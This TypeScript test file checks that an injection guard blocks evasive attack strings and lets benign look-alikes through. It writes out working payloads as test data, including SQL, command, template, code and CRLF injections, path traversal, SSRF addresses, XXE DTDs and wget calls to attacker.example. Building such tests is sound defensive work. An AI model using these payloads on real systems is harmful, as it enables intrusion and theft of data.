// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are what is looked for
// CT3 through the front door: attacks written by somebody who has read the detectors, and honest texts that look like those.
import assert from 'node:assert/strict'
import { after, before, suite, test } from 'node:test'
import { honestValues } from '../inspection/injection/honest-values.ts'
import { assertRefused, type Guarded, json, route, startGuarded } from './guarded.ts'

suite('CT3: whoever has read the detectors', () => {
  let house: Guarded
  const closing: (() => unknown)[] = []

  before(async () => {
    const context = { after: (close: () => unknown) => void closing.push(close) } as never
    house = await startGuarded(context, { inspection: { injection: 'block' }, routes: [route('/items')] })
  })
  after(async () => {
    for (const close of closing.reverse()) await close()
  })

  const walk = 'The weather was fine and so we went for a walk along the river with our dog. '
  const evasions: readonly (readonly [how: string, family: string, text: string])[] = [
    ['a statement that is known by its second word', 'sql', '1;flush privileges'],
    ['a selection without `select`', 'sql', '0 union table mysql.user'],
    ['strings with escapes of the standard', 'sql', "' or U&'\\0061'='a' UESCAPE '\\'--"],
    ['a condition in a column to sort by', 'sql', '(case when 1=1 then name else price end)'],
    ['a tool with a plain name for its argument', 'command', 'x;chmod 777 uploads'],
    ['a runner with arguments of its own', 'command', 'x;timeout 1 id'],
    ['a parameter padded with more words than prose has', 'command', `${walk.repeat(20)};cat /etc/passwd`],
    ['a string in pieces', 'template', "{{lipsum['__glo''bals__']}}"],
    ['brackets around each number', 'template', '{{(7)*(7)}}'],
    ['a step there and back', 'traversal', '/etc/x/../passwd'],
    ['a reach for what is hidden by name', 'code', "getattr(__builtins__,'eval')"],
    ['a line of a program for its beginning', 'code', `return __import__('os').popen('id').read() #${'a'.repeat(40)}`],
    [
      'a known host behind the one that is asked',
      'xxe',
      '<!DOCTYPE a SYSTEM "http://attacker.example/www.w3.org/a.dtd">',
    ],
    ['a public name that is known', 'xxe', '<!DOCTYPE a PUBLIC "-//W3C//DTD" "http://attacker.example/a.dtd">'],
    ['a line of a quoted message before it', 'crlf', '> x\r\nLocation: //attacker.example'],
    ['what looks like an entity before it', 'command', '&lt;id'],
  ]
  for (const [how, family, text] of evasions)
    test(`${how} is no way past (${family})`, async () => {
      const outcome = await house.ask(`/items?q=${encodeURIComponent(text)}`)
      assertRefused(outcome, 403, 'injection-detected')
      const families = (outcome.problem.findings ?? []).map(({ what }) => what)
      assert.ok(families.includes(family), String(families))
    })

  const members: readonly (readonly [how: string, family: string, body: object])[] = [
    ['another sign for a slash', 'traversal', { value: '..\u2215..\u2215secret' }],
    ['an address behind one slash', 'ssrf', { value: 'http:/127.0.0.1/' }],
    ['an address within another', 'ssrf', { value: 'http://[2002:7f00:1::]/' }],
    [
      'words around backticks in an identifier',
      'command',
      { user_id: 'one two three four `wget http://attacker.example/a`' },
    ],
    ['a link of a message in an identifier', 'command', { user_id: '<https://example.com|id' }],
    ["a builder's tool first in an identifier", 'command', { user_id: 'git log;wget http://attacker.example/a' }],
    ['a quoted header first in an identifier', 'crlf', { user_id: 'Date: x\r\nSet-Cookie: a=b' }],
  ]
  for (const [how, family, body] of members)
    test(`${how} is no way past in a body (${family})`, async () => {
      const outcome = await house.ask('/items', json(body))
      assertRefused(outcome, 403, 'injection-detected')
      const families = (outcome.problem.findings ?? []).map(({ what }) => what)
      assert.ok(families.includes(family), String(families))
    })

  test('a condition that always holds is no identifier, and is two numbers in a comment', async () => {
    assertRefused(await house.ask('/items', json({ user_id: '1 or 1' })), 403, 'injection-detected')
    assert.equal((await house.ask('/items', json({ comment: '1 or 2' }))).status, 200)
  })

  const shop = [
    ['an address with the number of a flat', { address: "12 O'Connell St; Apt #4" }],
    ['tags', { tags: 'dog;cat' }],
    ['a placeholder of a manual', { comment: 'In bash ${var} expands, and $(cmd) runs a command.' }],
    [
      'the source of a program',
      { code: 'import subprocess\n\ndef run(a):\n    return subprocess.run(a, check=True)\n' },
    ],
  ] as const
  for (const [what, body] of shop)
    test(`${what} passes as it came`, async () => {
      const { status, seen, text } = await house.ask('/items', json(body))
      assert.equal(status, 200, text)
      assert.deepEqual(JSON.parse(String(seen?.body)), body)
    })

  test('where a package comes from is no command of a query', async () => {
    const from = encodeURIComponent('git+https://example.com/a/b.git#v1.2')
    assert.equal((await house.ask(`/items?from=${from}`)).status, 200)
    assert.equal((await house.ask(`/items?q=${from}`)).status, 200)
  })

  test('two tokens in one header are no lines in it', async () => {
    const part = (of: unknown): string => Buffer.from(JSON.stringify(of)).toString('base64url')
    const token = `${part({ alg: 'ES256', typ: 'JWT' })}.${part({ sub: 'user-1', name: 'Ada' })}.SflKxwRJSMeKKF2QT4fwpMeJf36P`
    const { status, text, seen } = await house.ask('/items', { headers: { 'x-tokens': `${token},${token}x` } })
    assert.equal(status, 200, text)
    assert.equal(seen?.headers['x-tokens'], `${token},${token}x`)
  })

  test('what people and programs write passes as one body, all at once', async () => {
    const bodies = honestValues
      .filter(({ places }) => places.includes('value'))
      .map(({ what, texts }) => ({ [what]: texts.map((value) => ({ value })) }))
    const { status, text } = await house.ask('/items', json(bodies))
    assert.equal(status, 200, text)
  })
})
